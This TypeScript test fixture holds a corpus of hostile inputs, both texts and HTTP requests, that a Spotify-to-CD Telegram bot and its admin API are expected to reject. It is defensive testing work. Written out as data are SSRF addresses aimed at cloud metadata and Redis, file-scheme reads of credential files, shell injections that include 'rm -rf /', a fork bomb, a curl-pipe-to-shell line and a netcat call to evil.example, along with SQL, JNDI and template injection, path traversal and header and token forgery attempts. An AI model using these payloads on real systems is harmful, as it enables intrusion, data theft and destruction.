/**
 * The hostile-input corpus (issue 8) as data: texts a person could paste into the bot, callback data a
 * modified Telegram client could send, and requests an attacker could make to the admin API. None of
 * them may be accepted: each gets a clear refusal, creates no job and crashes nothing.
 *
 * `{OTHER_JOB}` stands for the id of a job that belongs to someone else; the test fills it in.
 */

/** Where an input came from, for the counts the test prints. */
export type HostileCategory =
  | "other-site"
  | "internal-address"
  | "scheme"
  | "shell"
  | "injection"
  | "oversized"
  | "invisible"
  | "job-id"
  | "malformed-link";

export interface HostileText {
  readonly category: HostileCategory;
  readonly text: string;
  /**
   * The link parser may return a short link for this text (a spotify.link code, with everything else of
   * the input dropped); resolving it must then still fail, so no job is created.
   */
  readonly shortLink?: true;
}

/** Placeholder for the id of a job owned by another person. */
export const OTHER_JOB = "{OTHER_JOB}";

/** A syntactically valid Spotify id (22 base62 characters) to hide hostile bits around. */
export const validId = "4uLU6hMCjMI75M1A2tKUQC";
const track = `https://open.spotify.com/track/${validId}`;

const otherSites: string[] = [
  "https://www.youtube.com/watch?v=dQw4w9WgXcQ",
  "https://music.youtube.com/watch?v=dQw4w9WgXcQ",
  "https://soundcloud.com/artist/track",
  "https://music.apple.com/us/album/x/123456789",
  "https://www.deezer.com/track/3135556",
  "https://tidal.com/browse/track/123",
  "https://evil.example/track/" + validId,
  "https://open.spotify.com.evil.example/track/" + validId,
  "https://open-spotify.com/track/" + validId,
  "https://open.spotify.co/track/" + validId,
  "https://spotify.com/track/" + validId,
  "https://www.spotify.com/track/" + validId,
  "https://open.spotify.com@evil.example/track/" + validId,
  "https://user:pass@open.spotify.com/track/" + validId,
  "https://open.spotify.com:8443/track/" + validId,
  "https://evil.example/#https://open.spotify.com/track/" + validId,
  "https://evil.example/?next=https://open.spotify.com/track/" + validId,
  "https://evil.example\\@open.spotify.com/track/" + validId,
  "//evil.example/track/" + validId,
  "https://open.spоtify.com/track/" + validId, // Cyrillic "о": a homograph
  "https://xn--opn-spotify-xyz.com/track/" + validId,
  "evil.example/track/" + validId,
  "https://t.me/cd_collector_bot?start=x",
  "https://bit.ly/3abcdef",
  "https://spotify.link.evil.example/AbCd123",
  "https://spoti.fi.evil.example/AbCd123",
];

const internalAddresses: string[] = [
  "http://127.0.0.1/",
  "http://127.0.0.1:6379/",
  "http://127.0.0.1:8080/admin/burn",
  "http://127.0.0.1:9090/metrics",
  "http://localhost/",
  "http://localhost:6379/",
  "localhost:6379",
  "http://10.0.0.1/",
  "http://10.255.255.254:8080/admin/burn",
  "10.0.0.1:8080/track/" + validId,
  "http://172.16.0.1/",
  "http://192.168.1.1/",
  "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
  "http://169.254.169.254/computeMetadata/v1/",
  "169.254.169.254/latest/user-data",
  "http://metadata.google.internal/computeMetadata/v1/",
  "http://[::1]/",
  "http://[::1]:6379/",
  "[::1]/track/" + validId,
  "http://[::ffff:127.0.0.1]/",
  "http://[0:0:0:0:0:0:0:1]/",
  "http://[fd00::1]/",
  "http://[fe80::1%25eth0]/",
  "http://[::]:6379/",
  "http://2130706433/",
  "http://0x7f000001/",
  "http://0177.0.0.1/",
  "http://017700000001/",
  "http://0x7f.0.0.1/",
  "http://127.1/",
  "http://0/",
  "http://0.0.0.0:6379/",
  "http://2852039166/",
  "http://0xA9FEA9FE/",
  "http://①②⑦.0.0.1/",
  "http://127.0.0.1.nip.io/",
  "http://169.254.169.254.nip.io/",
  "https://spotify.link/AbCd123?next=http://169.254.169.254/",
  "https://spoti.fi/@169.254.169.254",
  "https://spotify.link/../../169.254.169.254",
];

const schemes: string[] = [
  "file:///etc/passwd",
  "file://localhost/etc/shadow",
  "FILE:///C:/Windows/win.ini",
  "file:" + "///proc/self/environ",
  "javascript:alert(1)",
  "JaVaScRiPt:alert(document.cookie)",
  "javascript://open.spotify.com/%0aalert(1)",
  "data:text/html,<script>alert(1)</script>",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "vbscript:msgbox(1)",
  "ftp://open.spotify.com/track/" + validId,
  "wss://open.spotify.com/track/" + validId,
  "gopher://127.0.0.1:6379/_FLUSHALL",
  "dict://127.0.0.1:6379/info",
  "redis://127.0.0.1:6379/0",
  "ldap://evil.example/a",
  "blob:https://open.spotify.com/0b3f",
  "view-source:https://open.spotify.com/track/" + validId,
  "intent://open.spotify.com/track/" + validId + "#Intent;scheme=spotify;end",
  "tg://resolve?domain=cd_collector_bot",
  "mailto:admin@example.org",
  "about:blank",
  "chrome://settings",
];

const shell: string[] = [
  "; rm -rf /",
  "$(rm -rf /)",
  "`rm -rf /`",
  "| nc evil.example 4444",
  "&& curl http://evil.example/x.sh | sh",
  "\n/bin/sh -i",
  "a\nb; reboot",
  `${track.slice(0, -4)}; rm -rf /`,
  "https://open.spotify.com/track/$(whoami)",
  "https://open.spotify.com/track/`id`",
  "https://open.spotify.com/album/;rm -rf /",
  "https://open.spotify.com/playlist/|cat /etc/passwd",
  "https://open.spotify.com/track/&&reboot",
  "spotify:track:$(id)",
  "spotify:track:`id`",
  "spotify:album:;shutdown",
  "--exec 'rm -rf /'",
  "-o /etc/passwd",
  "--output=/tmp/pwn --exec=sh",
  "--config-location /dev/stdin",
  "-- --exec sh",
  "${IFS}cat${IFS}/etc/passwd",
  "$(curl http://169.254.169.254/latest/meta-data/)",
  "';exec('/bin/sh');'",
  '"; FLUSHALL; "',
  "*1\r\n$8\r\nFLUSHALL\r\n",
  "../../../../etc/passwd",
  "..\\..\\..\\windows\\system32\\config\\sam",
  "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
  "https://open.spotify.com/track/..%2f..%2fetc%2fpasswd",
  "https://open.spotify.com/../../../etc/passwd",
  "spotify:track:../../etc/passwd",
  "/etc/passwd",
  "~/.ssh/id_rsa",
  "> /dev/sda",
  "cat < /etc/shadow",
  ":(){ :|:& };:",
];

const injection: string[] = [
  "'; DROP TABLE jobs; --",
  "' OR '1'='1",
  "${jndi:ldap://evil.example/a}",
  "{{7*7}}",
  "<%= 7*7 %>",
  "<script>alert(1)</script>",
  '<b>bold</b> <a href="tg://user?id=1">x</a>',
  "*bold* _italic_ [click](http://evil.example)",
  "```\nspoof\n```",
  "%s%s%s%s%n",
  "\u0000",
  "a\u0000b https://open.spotify.com/track/\u0000",
  "\u001b[31mred\u001b[0m",
  "\u0007\u0008\u007f",
  "&#x6a;avascript:alert(1)",
  "__proto__",
  '{"__proto__":{"admin":true}}',
  "constructor.prototype",
  "NaN",
  "-1",
  "9".repeat(400),
  "\ud800",
  "\udfff\ud800",
  "@cd_collector_bot /download",
  "/download@other_bot https://open.spotify.com/track/short",
  "/cancel@cd_collector_bot_evil ab3def7",
  "/etc/shadow",
  "/%s",
];

const oversized: string[] = [
  "a".repeat(10_000),
  "https://open.spotify.com/track/" + "A".repeat(10_000),
  "spotify:track:" + "b".repeat(10_000),
  "😀".repeat(3_000),
  "\u200B".repeat(10_000),
  "https://" + "a.".repeat(5_000) + "com/track/" + validId,
  "%".repeat(10_000),
  "$(".repeat(5_000),
  track + " " + " x".repeat(1_100),
  "x".repeat(2_049),
  "https://open.spotify.com/track/" + validId + "?si=" + "q".repeat(3_000),
  "/download " + "y".repeat(10_000),
];

/** Invisible characters people (and attackers) slip into links. */
const invisibles: Record<string, string> = {
  ZWSP: "\u200B",
  ZWNJ: "\u200C",
  ZWJ: "\u200D",
  WJ: "\u2060",
  BOM: "\uFEFF",
  RLO: "\u202E",
  LRO: "\u202D",
  RLI: "\u2067",
  SHY: "\u00AD",
};

function invisibleVariants(): string[] {
  const out: string[] = [];
  for (const [name, ch] of Object.entries(invisibles)) {
    out.push(
      `https://open.spotify.com/track/${validId.slice(0, 11)}${ch}${validId.slice(11)}`,
      // U+FEFF is whitespace to JavaScript: after a link it only separates, like a space.
      ...(name === "BOM" ? [] : [`https://open.spotify.com/track/${validId}${ch}`]),
      `https://open.spo${ch}tify.com/track/${validId}`,
      `https://open.spotify.com/tr${ch}ack/${validId}`,
      `spotify:track:${ch}${validId}`,
    );
  }
  out.push(
    "\u202Ekcart/moc.yfitops.nepo//:sptth",
    "https://open.spotify.com/track/\u202ECQUKt2A1M57IjMCMh6ULu4",
    "spotify:\u200Btrack:" + validId,
    "\u200B\u200D\uFEFF",
    "\u202E; rm -rf /",
  );
  return out;
}

const jobIds: string[] = [
  "zzzzzzz",
  "aaaaaaa",
  "2345678",
  "#ZZZZZZZ",
  "ab3def",
  "ab3def77",
  "ab3de f7",
  "ab3dèf7",
  "ab3de0l",
  "ab3def7 ab3def8",
  "ab3def7; rm -rf /",
  "ab3:ef7",
  "../../x",
  "*",
  "?",
  "0",
  "9999999999999999999999",
  "null",
  OTHER_JOB,
  `#${OTHER_JOB}`,
  `${OTHER_JOB}\u200B`,
  `\u202E${OTHER_JOB}`,
  `${OTHER_JOB}/../`,
  `bull:collections:${OTHER_JOB}`,
  `${OTHER_JOB} ${OTHER_JOB}`,
  `c:${OTHER_JOB}`,
];

const malformedLinks: string[] = [
  "https://open.spotify.com/",
  "https://open.spotify.com/track/",
  "https://open.spotify.com/track/short",
  "https://open.spotify.com/artist/" + validId,
  "https://open.spotify.com/episode/" + validId,
  "https://open.spotify.com/user/x",
  "https://open.spotify.com/intl-xx/track/" + validId + "x",
  "spotify:",
  "spotify:track:",
  "spotify:show:" + validId,
  "spotify:user:x:playlist:../" + validId,
  "https://spotify.link/",
  "https://spotify.link/a/b",
  "https://spoti.fi/" + "k".repeat(65),
];

function category(c: HostileCategory, texts: readonly string[]): HostileText[] {
  return texts.map((text) => ({ category: c, text }));
}

/** Every hostile text, deduplicated, in a stable order. */
export const hostileTexts: readonly HostileText[] = dedupe([
  ...category("other-site", otherSites),
  ...category("internal-address", internalAddresses).map((h) =>
    h.text.startsWith("https://spotify.link/AbCd123?") ? { ...h, shortLink: true as const } : h,
  ),
  ...category("scheme", schemes),
  ...category("shell", shell),
  ...category("injection", injection),
  ...category("oversized", oversized),
  ...category("invisible", invisibleVariants()),
  ...category("job-id", jobIds),
  ...category("malformed-link", malformedLinks),
]);

function dedupe(items: HostileText[]): HostileText[] {
  const seen = new Set<string>();
  return items.filter((h) => (seen.has(h.text) ? false : (seen.add(h.text), true)));
}

/**
 * Callback data a modified client can send when pressing a button of a real status message. Telegram's
 * own buttons carry 1–64 bytes; a bad client is not bound by that.
 */
export const hostileCallbackData: readonly string[] = [
  `c:${OTHER_JOB}`,
  `c:#${OTHER_JOB}`,
  `C:${OTHER_JOB}`,
  `c:${OTHER_JOB}:x`,
  `c: ${OTHER_JOB}`,
  `c:${OTHER_JOB}\u200B`,
  `cancel:${OTHER_JOB}`,
  `d:${OTHER_JOB}`,
  "c:zzzzzzz",
  "c:../../x",
  "c:../../../etc/passwd",
  "c:",
  "c",
  "",
  "c:" + "a".repeat(62),
  "c:" + "a".repeat(500),
  "x".repeat(4_096),
  "c:$(rm -rf /)",
  "c:*",
  "c:__proto__",
  "__proto__",
  "\u0000",
  "c:\u202Ezzzzzzz",
  '{"c":"x"}',
  "😀".repeat(40),
];

/** A request to the admin / files API that must be refused with a 4xx and a JSON error. */
export interface HostileHttpRequest {
  readonly name: string;
  readonly method: "GET" | "POST" | "PUT" | "DELETE";
  readonly url: string;
  readonly headers?: Readonly<Record<string, string>>;
  /** Sent as is (already serialised). */
  readonly body?: string;
  /** The TCP peer; inside the admin networks unless said otherwise. @defaultValue "127.0.0.1" */
  readonly remoteAddress?: string;
  /** When the request should not carry the right bearer token. */
  readonly noAuth?: true;
}

const json = (value: unknown): string => JSON.stringify(value);
const post = (name: string, body: string, extra: Partial<HostileHttpRequest> = {}): HostileHttpRequest => ({
  name,
  method: "POST",
  url: "/admin/burn",
  headers: { "content-type": "application/json" },
  body,
  ...extra,
});

const badJobIds = [
  "../etc",
  "../../../../etc/passwd",
  "ab3def7/../../x",
  "ab3def7; rm -rf /",
  "$(reboot)",
  "`id`",
  "ab3def7|id",
  "ab3def7&&id",
  "ab3def7\nid",
  "AB3DEF7",
  "ab3def7\u200B",
  "\u202Eab3def7",
  "bull:collections:ab3def7",
  "*",
  "",
  "a".repeat(20_000),
];

const badDevices = [
  "/dev/../etc/passwd",
  "/dev/sr0; rm -rf /",
  "/dev/sr0 && reboot",
  "/dev/$(id)",
  "/dev/`id`",
  "/dev/sr0|tee",
  "/dev/sr0\n--eject",
  "/etc/passwd",
  "--device=/dev/sda",
  "/dev/sr0\u0000",
  "/dev/sr\u200B0",
  "sr0",
  "",
];

/** Requests to the admin burn route and the signed-download route. */
export const hostileHttpRequests: readonly HostileHttpRequest[] = [
  ...badJobIds.map((jobId) => post(`burn jobId ${JSON.stringify(jobId.slice(0, 30))}`, json({ jobId }))),
  ...badDevices.map((device) =>
    post(`burn device ${JSON.stringify(device)}`, json({ jobId: "ab3def7", device, simulate: true })),
  ),
  post("oversized body (20 kB)", json({ jobId: "ab3def7", pad: "p".repeat(20_000) })),
  post("oversized body (1 MB)", json({ jobId: "ab3def7", pad: "p".repeat(1024 * 1024) })),
  post("deeply nested body", "[".repeat(5_000) + "]".repeat(5_000)),
  post("malformed JSON: unterminated", '{"jobId": "ab3def7"'),
  post("malformed JSON: trailing comma", '{"jobId": "ab3def7",}'),
  post("malformed JSON: single quotes", "{'jobId': 'ab3def7'}"),
  post("malformed JSON: NaN", '{"jobId": "ab3def7", "disc": NaN}'),
  post("malformed JSON: bare string", '"ab3def7"'),
  post("malformed JSON: empty", ""),
  post("JSON null", "null"),
  post("JSON array", json(["ab3def7"])),
  post("JSON number", "7"),
  post("wrong type: jobId number", json({ jobId: 1234567 })),
  post("wrong type: jobId array", json({ jobId: ["ab3def7"] })),
  post("wrong type: jobId object", json({ jobId: { $ne: null } })),
  post("wrong type: simulate string", json({ jobId: "ab3def7", simulate: "true" })),
  post("wrong type: disc string", json({ jobId: "ab3def7", disc: "1; rm" })),
  post("wrong value: disc 0", json({ jobId: "ab3def7", disc: 0 })),
  post("wrong value: disc 1e9", json({ jobId: "ab3def7", disc: 1e9 })),
  post("wrong value: disc 1.5", json({ jobId: "ab3def7", disc: 1.5 })),
  post("unknown key", json({ jobId: "ab3def7", exec: "rm -rf /" })),
  post("prototype pollution", '{"jobId":"ab3def7","__proto__":{"admin":true}}'),
  post("constructor key", json({ jobId: "ab3def7", constructor: { prototype: { x: 1 } } })),
  post("duplicate keys", '{"jobId":"ab3def7","jobId":"../x"}'),
  post("made-up job", json({ jobId: "zzzzzzz", simulate: true })),
  post("text/plain body", "jobId=ab3def7", { headers: { "content-type": "text/plain" } }),
  post("form body", "jobId=ab3def7", { headers: { "content-type": "application/x-www-form-urlencoded" } }),
  post("xml body", "<burn><jobId>ab3def7</jobId></burn>", { headers: { "content-type": "application/xml" } }),
  post("no content type", json({ jobId: "ab3def7" }), { headers: {} }),
  post("forged X-Forwarded-For 127.0.0.1 from outside", json({ jobId: "ab3def7" }), {
    headers: { "content-type": "application/json", "x-forwarded-for": "127.0.0.1" },
    remoteAddress: "203.0.113.7",
  }),
  post("forged X-Forwarded-For chain from outside", json({ jobId: "ab3def7" }), {
    headers: { "content-type": "application/json", "x-forwarded-for": "10.0.0.5, 127.0.0.1" },
    remoteAddress: "198.51.100.23",
  }),
  post("forged X-Real-IP and Forwarded from outside", json({ jobId: "ab3def7" }), {
    headers: {
      "content-type": "application/json",
      "x-real-ip": "127.0.0.1",
      forwarded: "for=127.0.0.1",
    },
    remoteAddress: "203.0.113.8",
  }),
  post("public IPv6 peer", json({ jobId: "ab3def7" }), { remoteAddress: "2001:db8::1" }),
  post("no Authorization header", json({ jobId: "ab3def7" }), { noAuth: true }),
  post("wrong bearer token", json({ jobId: "ab3def7" }), {
    headers: { "content-type": "application/json", authorization: "Bearer not-the-token" },
    noAuth: true,
  }),
  post("Basic instead of Bearer", json({ jobId: "ab3def7" }), {
    headers: { "content-type": "application/json", authorization: "Basic YWRtaW46YWRtaW4=" },
    noAuth: true,
  }),
  post("empty bearer", json({ jobId: "ab3def7" }), {
    headers: { "content-type": "application/json", authorization: "Bearer " },
    noAuth: true,
  }),
  post("bearer with two tokens", json({ jobId: "ab3def7" }), {
    headers: { "content-type": "application/json", authorization: "Bearer a b" },
    noAuth: true,
  }),
  post("oversized Authorization", json({ jobId: "ab3def7" }), {
    headers: { "content-type": "application/json", authorization: `Bearer ${"t".repeat(8_000)}` },
    noAuth: true,
  }),
  post("oversized body without a token", "p".repeat(64 * 1024), { noAuth: true }),
  { name: "GET burn traversal", method: "GET", url: "/admin/burn/..%2f..%2fetc%2fpasswd" },
  { name: "GET burn shell", method: "GET", url: "/admin/burn/%24(id)" },
  { name: "GET burn made-up", method: "GET", url: "/admin/burn/zzzzzzz" },
  { name: "GET burn long id", method: "GET", url: `/admin/burn/${"a".repeat(300)}` },
  { name: "DELETE burn", method: "DELETE", url: "/admin/burn/zzzzzzz" },
  { name: "PUT burn", method: "PUT", url: "/admin/burn", body: json({ jobId: "ab3def7" }) },
  { name: "files traversal", method: "GET", url: "/files/..%2f..%2f..%2fetc%2fpasswd" },
  { name: "files dot-dot", method: "GET", url: "/files/../../etc/passwd" },
  { name: "files made-up token", method: "GET", url: "/files/ab3def7.12345.deadbeef" },
  { name: "files shell token", method: "GET", url: "/files/%60id%60" },
  { name: "files null byte", method: "GET", url: "/files/abc%00.zip" },
  { name: "files long token", method: "GET", url: `/files/${"t".repeat(300)}` },
  { name: "files RTL token", method: "GET", url: `/files/${encodeURIComponent("\u202Epiz.x")}` },
  {
    name: "files forged signature for {OTHER_JOB}",
    method: "GET",
    url: `/files/${OTHER_JOB}.9999999999.AAAA`,
  },
];
